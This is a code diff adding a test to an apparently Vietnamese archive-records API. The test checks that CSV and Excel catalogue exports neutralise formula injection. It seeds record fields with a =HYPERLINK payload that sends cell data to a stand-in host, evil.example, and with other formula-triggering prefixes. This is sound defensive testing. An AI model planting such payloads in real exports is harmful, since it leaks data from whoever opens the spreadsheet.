@@ -498,6 +498,27 @@ def test_catalogue_csv_and_xlsx(staff: Staff) -> None:
         assert sorted(zf.namelist()) == [f"{MA}.zip", "danh-muc-ho-so.csv"]
 
 
+def test_catalogue_cells_are_never_formulas(staff: Staff) -> None:
+    # The attack: metadata that a spreadsheet runs (=HYPERLINK became a live formula).
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    body = ho_so_body(tieu_de=evil, nguoi_lap="@SUM(1+1)", ghi_chu="\t=1+2")
+    h = staff.bearer("archivist")
+    assert staff.client.put(f"/api/v1/ho-so/{MA}", json=body, headers=h).status_code == 200
+    r = staff.client.get("/api/v1/catalogue.csv", headers=h)
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["Tiêu đề hồ sơ"] == "'" + evil
+    assert row["Người lập hồ sơ"] == "'@SUM(1+1)"
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in rows[1])
+    x = staff.client.get("/api/v1/catalogue.xlsx", headers=h)
+    from openpyxl import load_workbook
+
+    ws = load_workbook(io.BytesIO(x.content)).active
+    cells = {c.value: c for c in ws[2]}
+    assert cells[evil].data_type == "s"  # kept as entered, stored as text
+    assert all(c.data_type != "f" for c in ws[2])
+
+
 # -- review actions: rotate, re-scan request --------------------------------------------------
 
 
